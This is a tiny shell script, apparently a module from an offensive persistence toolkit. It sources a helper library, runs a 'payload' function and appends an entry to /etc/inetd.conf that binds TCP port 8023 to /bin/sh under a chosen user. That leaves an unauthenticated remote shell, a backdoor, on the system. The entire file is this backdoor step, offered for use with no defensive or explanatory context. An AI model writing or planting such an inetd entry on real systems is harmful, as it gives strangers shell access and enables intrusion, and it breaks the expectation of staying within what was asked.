#!/bin/sh
# inetd: a program of inetd (inetd(8))
. "${0%/*}/lib.sh"
payload
append /etc/inetd.conf "$head" \
	"8023 stream tcp nowait $who ${prog:-/bin/sh} $argv"
